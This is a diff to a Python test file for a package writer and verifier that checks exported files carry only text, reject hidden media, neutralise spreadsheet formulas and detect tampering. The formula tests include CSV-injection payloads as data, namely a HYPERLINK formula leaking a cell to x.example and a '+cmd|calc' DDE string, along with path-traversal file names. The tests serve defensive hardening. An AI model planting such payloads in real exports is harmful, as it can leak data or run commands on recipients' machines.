@@ -1,40 +1,86 @@
+"""The referral package: only text leaves, formulas are neutralised, and the verifier finds every
+kind of tampering without ever raising."""
+
 from __future__ import annotations
 
+import base64
+import io
+import json
 import zipfile
 from pathlib import Path
 
 import pytest
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
+from PIL import Image
 
-from tiaki.formats.package import PackageError, verify_package, write_package
+from tiaki.formats.package import (
+    PackageContentError,
+    PackageError,
+    find_media_payload,
+    verify_package,
+    write_package,
+)
 
-FILES = {"persons.csv": b"person_id,country\nP-1,NZ\n", "README.md": b"# hello\n"}
+FILES = {
+    "persons.csv": b"person_id,country\nP-1,NZ\n",
+    "accounts.csv": b"account_id,person_id,username\nacc-1,P-1,river_otter\n",
+    "media.csv": b"media_id,sha256\n",
+    "README.md": b"# hello\n",
+}
+META = {"country": "NZ", "handling": "restricted", "counts": {"persons": 1, "accounts": 1, "media": 0}}
+
+
+def png_bytes() -> bytes:
+    out = io.BytesIO()
+    Image.new("RGB", (4, 4), (10, 200, 30)).save(out, format="PNG")
+    return out.getvalue()
+
+
+def with_accounts(*rows: str) -> dict[str, bytes]:
+    body = "".join(row + "\n" for row in rows)
+    return {**FILES, "accounts.csv": b"account_id,person_id,username,profile_url\n" + body.encode()}
+
+
+def meta(**counts: int) -> dict[str, object]:
+    return {**META, "counts": {**META["counts"], **counts}}  # type: ignore[dict-item]
 
 
 def test_written_package_verifies_as_folder_and_zip(tmp_path: Path):
-    zip_path, zip_sha, manifest_sha = write_package(tmp_path / "op-NZ", FILES, {"country": "NZ"})
+    zip_path, zip_sha, manifest_sha = write_package(tmp_path / "op-NZ", FILES, META)
     assert verify_package(tmp_path / "op-NZ") == []
     assert verify_package(zip_path) == []
+    assert verify_package(zip_path, expected_manifest_sha256=manifest_sha) == []
     with zipfile.ZipFile(zip_path) as archive:
-        assert sorted(archive.namelist()) == ["op-NZ/README.md", "op-NZ/manifest.json", "op-NZ/persons.csv"]
+        assert sorted(archive.namelist()) == [
+            "op-NZ/README.md",
+            "op-NZ/accounts.csv",
+            "op-NZ/manifest.json",
+            "op-NZ/media.csv",
+            "op-NZ/persons.csv",
+        ]
     assert len(zip_sha) == len(manifest_sha) == 64
 
 
 def test_writing_twice_gives_identical_bytes(tmp_path: Path):
-    first = write_package(tmp_path / "a" / "op-NZ", FILES, {"country": "NZ"})
-    second = write_package(tmp_path / "b" / "op-NZ", FILES, {"country": "NZ"})
+    first = write_package(tmp_path / "a" / "op-NZ", FILES, META)
+    second = write_package(tmp_path / "b" / "op-NZ", FILES, META)
     assert first[1:] == second[1:]
 
 
 def test_altered_missing_and_extra_files_are_reported(tmp_path: Path):
     folder = tmp_path / "op-NZ"
-    write_package(folder, FILES, {})
-    (folder / "persons.csv").write_bytes(b"person_id,country\nP-2,AU\n")
+    write_package(folder, FILES, META)
+    (folder / "persons.csv").write_bytes(b"person_id,country\nP-2,NZ\n")
     (folder / "README.md").unlink()
     (folder / "extra.txt").write_text("x")
     problems = verify_package(folder)
     assert any("persons.csv" in p and "altered" in p for p in problems)
     assert any("README.md" in p and "missing" in p for p in problems)
     assert any("extra.txt" in p and "not listed" in p for p in problems)
+
+
+# --- only text leaves -------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize(
@@ -48,18 +94,212 @@ def test_altered_missing_and_extra_files_are_reported(tmp_path: Path):
     ],
 )
 def test_media_bytes_are_refused_by_the_writer_and_caught_by_the_verifier(tmp_path: Path, payload: bytes):
-    with pytest.raises(PackageError, match="never carry media"):
-        write_package(tmp_path / "p", {"notes.csv": b"a,b\n" + payload}, {})
+    with pytest.raises(PackageError, match=r"never carry media|packages carry only text"):
+        write_package(tmp_path / "p", {**FILES, "notes.txt": b"a,b\n" + payload}, META)
     folder = tmp_path / "q"
-    write_package(folder, FILES, {})
-    (folder / "persons.csv").write_bytes(b"x" + payload)
-    assert any("bytes" in p for p in verify_package(folder))
+    write_package(folder, FILES, META)
+    (folder / "README.md").write_bytes(b"x" + payload)
+    assert any("README.md" in p and ("binary" in p or "control" in p) for p in verify_package(folder))
 
 
-def test_something_that_is_not_a_package_is_refused(tmp_path: Path):
+def test_a_whole_picture_file_is_refused(tmp_path: Path):
+    with pytest.raises(PackageContentError, match="png file") as caught:
+        write_package(tmp_path / "p", {**FILES, "photo.txt": png_bytes()}, META)
+    assert caught.value.file == "photo.txt"
+
+
+@pytest.mark.parametrize(
+    "text", ["GIF89a", "ftypisom@example.org", "RIFF1234WEBP", "\\x89PNG", "GIF87a GIF89a ftypmp42"]
+)
+def test_text_that_only_looks_like_a_signature_never_stops_a_package(tmp_path: Path, text: str):
+    files = with_accounts(f"acc-1,P-1,{text},https://example.org/u/{text}")
+    write_package(tmp_path / "op-NZ", files, META)
+    assert verify_package(tmp_path / "op-NZ") == []
+
+
+def test_a_data_uri_picture_is_refused_naming_file_row_and_field(tmp_path: Path):
+    uri = "data:image/png;base64," + base64.b64encode(png_bytes()).decode()
+    files = with_accounts("acc-1,P-1,river,https://example.org/u/river", f'acc-2,P-1,heron,"{uri}"')
+    with pytest.raises(PackageContentError) as caught:
+        write_package(tmp_path / "op-NZ", files, meta(accounts=2))
+    error = caught.value
+    assert (error.file, error.row, error.field) == ("accounts.csv", 3, "profile_url")
+    assert "image/png" in str(error) and not (tmp_path / "op-NZ").exists()
+
+
+@pytest.mark.parametrize(
+    "encode",
+    [
+        lambda data: base64.b64encode(data).decode(),
+        lambda data: "x" + base64.b64encode(data).decode(),  # misaligned by one character
+        lambda data: base64.urlsafe_b64encode(data).decode(),
+        lambda data: base64.encodebytes(b"\x00" * 30 + data).decode(),  # wrapped lines, offset payload
+        lambda data: data.hex(),
+        lambda data: "data:application/octet-stream;base64," + base64.b64encode(data).decode(),
+    ],
+)
+def test_a_media_payload_in_any_common_encoding_is_refused(tmp_path: Path, encode) -> None:  # type: ignore[no-untyped-def]
+    value = encode(png_bytes())
+    assert find_media_payload(value) is not None
+    files = with_accounts(f'acc-1,P-1,"{value}",')
+    with pytest.raises(PackageContentError) as caught:
+        write_package(tmp_path / "op-NZ", files, META)
+    assert (caught.value.file, caught.value.row, caught.value.field) == ("accounts.csv", 2, "username")
+
+
+def test_a_payload_in_json_names_its_path(tmp_path: Path):
+    uri = "data:image/gif;base64,R0lGODlhAQABAAAAACw="
+    data = json.dumps({"Media": [{"Comments": "fine"}, {"Comments": uri}]}).encode()
+    with pytest.raises(PackageContentError) as caught:
+        write_package(tmp_path / "p", {**FILES, "media.vics.json": data}, META)
+    assert (caught.value.file, caught.value.field) == ("media.vics.json", "$.Media[1].Comments")
+
+
+@pytest.mark.parametrize("name", ["photo.jpg", "sub/persons.csv", "../x.csv", ".hidden.csv", "manifest.sig"])
+def test_only_expected_flat_text_files(tmp_path: Path, name: str):
+    with pytest.raises(PackageError):
+        write_package(tmp_path / "p", {**FILES, name: b"a\n"}, META)
+
+
+# --- formulas -------------------------------------------------------------------------------------
+
+
+def test_formulas_are_neutralised_in_every_csv(tmp_path: Path):
+    files = with_accounts(
+        'acc-1,P-1,"=HYPERLINK(""http://x.example/?""&A1,""click"")",+cmd|calc',
+    )
+    folder = tmp_path / "op-NZ"
+    write_package(folder, files, META)
+    text = (folder / "accounts.csv").read_text()
+    assert "'=HYPERLINK" in text and ",'+cmd|calc" in text
+    assert verify_package(folder) == []
+
+
+def test_a_formula_written_into_a_package_afterwards_is_reported(tmp_path: Path):
+    folder = tmp_path / "op-NZ"
+    write_package(folder, FILES, META)
+    (folder / "accounts.csv").write_bytes(b"account_id,person_id,username\nacc-1,P-1,@SUM(A1)\n")
+    problems = verify_package(folder)
+    assert any("row 2, field 'username'" in p and "formula" in p for p in problems)
+
+
+# --- manifest and members -------------------------------------------------------------------------
+
+
+def rewrite_zip(zip_path: Path, edit) -> None:  # type: ignore[no-untyped-def]
+    with zipfile.ZipFile(zip_path) as archive:
+        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
+    members = edit(members)
+    with zipfile.ZipFile(zip_path, "w") as archive:
+        for name, data in members:
+            archive.writestr(name, data)
+
+
+def edit_manifest(folder: Path, change) -> None:  # type: ignore[no-untyped-def]
+    manifest = json.loads((folder / "manifest.json").read_text())
+    change(manifest)
+    (folder / "manifest.json").write_text(json.dumps(manifest))
+
+
+@pytest.mark.parametrize(
+    ("change", "expected"),
+    [
+        (lambda m: m.update(country="AU"), "not the package's AU"),
+        (lambda m: m.update(country="nz"), "not two capital letters"),
+        (lambda m: m["counts"].update(persons=7), "counts.persons is 7"),
+        (lambda m: m.pop("handling"), "'handling' is required"),
+        (lambda m: m.update(version="1"), "version"),
+        (lambda m: m.update(files=[]), "not listed"),
+    ],
+)
+def test_edits_to_the_manifest_itself_are_found(tmp_path: Path, change, expected: str) -> None:  # type: ignore[no-untyped-def]
+    folder = tmp_path / "op-NZ"
+    write_package(folder, FILES, META)
+    edit_manifest(folder, change)
+    problems = verify_package(folder)
+    assert any(expected in p for p in problems), problems
+
+
+def test_a_manifest_listing_nothing_with_every_file_removed(tmp_path: Path):
+    folder = tmp_path / "op-NZ"
+    write_package(folder, FILES, META)
+    for name in FILES:
+        (folder / name).unlink()
+    edit_manifest(folder, lambda m: m.update(files=[]))
+    problems = verify_package(folder)
+    assert any("README.md: required" in p for p in problems)
+
+
+def test_a_handling_edit_is_found_against_the_recorded_manifest_digest(tmp_path: Path):
+    folder = tmp_path / "op-NZ"
+    _, _, manifest_sha = write_package(folder, FILES, META)
+    edit_manifest(folder, lambda m: m.update(handling="public"))
+    assert verify_package(folder) == []  # consistent: only a record or a signature can tell
+    assert verify_package(folder, expected_manifest_sha256=manifest_sha) != []
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_a_forged_file_in_a_second_folder_or_twice_in_the_zip(tmp_path: Path):
+    zip_path, _, _ = write_package(tmp_path / "op-NZ", FILES, META)
+    rewrite_zip(zip_path, lambda members: [*members, ("other/persons.csv", b"person_id,country\nP-9,NZ\n")])
+    assert any("outside the package folder" in p for p in verify_package(zip_path))
+    write_package(tmp_path / "op-NZ", FILES, META)
+    rewrite_zip(zip_path, lambda members: [*members, ("op-NZ/persons.csv", b"person_id,country\nP-9,NZ\n")])
+    assert any("appears twice" in p for p in verify_package(zip_path))
+    write_package(tmp_path / "op-NZ", FILES, META)
+    rewrite_zip(zip_path, lambda members: [*members, ("op-NZ/sub/persons.csv", b"x\n")])
+    assert any("folder inside the package" in p for p in verify_package(zip_path))
+
+
+def test_a_folder_or_link_inside_a_package_folder(tmp_path: Path):
+    folder = tmp_path / "op-NZ"
+    write_package(folder, FILES, META)
+    (folder / "sub").mkdir()
+    (folder / "link.csv").symlink_to(tmp_path)
+    problems = verify_package(folder)
+    assert any("sub/: a folder" in p for p in problems)
+    assert any("link.csv: a symbolic link" in p for p in problems)
+
+
+def test_signature_hook(tmp_path: Path):
+    key = Ed25519PrivateKey.generate()
+    public = key.public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)
+    folder = tmp_path / "op-NZ"
+    zip_path, _, _ = write_package(folder, FILES, META, signer=key.sign)
+    assert verify_package(folder, public_key=public) == []
+    assert verify_package(zip_path, public_key=public) == []
+    edit_manifest(folder, lambda m: m.update(handling="public"))
+    assert any("does not verify" in p for p in verify_package(folder, public_key=public))
+    unsigned = tmp_path / "plain" / "op-NZ"
+    write_package(unsigned, FILES, META)
+    assert any("not signed" in p for p in verify_package(unsigned, public_key=public))
+
+
+def test_inconsistent_metadata_is_refused_by_the_writer(tmp_path: Path):
+    with pytest.raises(PackageError, match=r"counts\.persons is 2"):
+        write_package(tmp_path / "p", FILES, meta(persons=2))
+    with pytest.raises(PackageError, match="not two capital letters"):
+        write_package(tmp_path / "p", FILES, {**META, "country": "NZL"})
+    with pytest.raises(PackageError, match="written by the package writer"):
+        write_package(tmp_path / "p", FILES, {**META, "files": []})
+
+
+# --- verify never raises ----------------------------------------------------------------------------
+
+
+def test_anything_that_is_not_a_package_gives_problems_not_errors(tmp_path: Path):
     junk = tmp_path / "junk.bin"
     junk.write_bytes(b"not a zip")
-    with pytest.raises(PackageError):
-        verify_package(junk)
+    assert "neither a package folder nor a zip" in verify_package(junk)[0]
+    assert "no such package" in verify_package(tmp_path / "missing")[0]
     (tmp_path / "empty").mkdir()
     assert verify_package(tmp_path / "empty") == [f"{tmp_path / 'empty'}: no manifest.json"]
+    zip_path, _, _ = write_package(tmp_path / "op-NZ", FILES, META)
+    data = bytearray(zip_path.read_bytes())
+    corrupt = tmp_path / "corrupt.zip"
+    corrupt.write_bytes(bytes(data[:40]) + b"\x00" * 200 + bytes(data[240:]))
+    assert verify_package(corrupt) != []
+    (tmp_path / "op-NZ" / "manifest.json").write_bytes(b"{not json")
+    assert "not valid JSON" in verify_package(tmp_path / "op-NZ")[0]
+    (tmp_path / "op-NZ" / "manifest.json").write_bytes(b"\xff\xfe")
+    assert verify_package(tmp_path / "op-NZ") != []
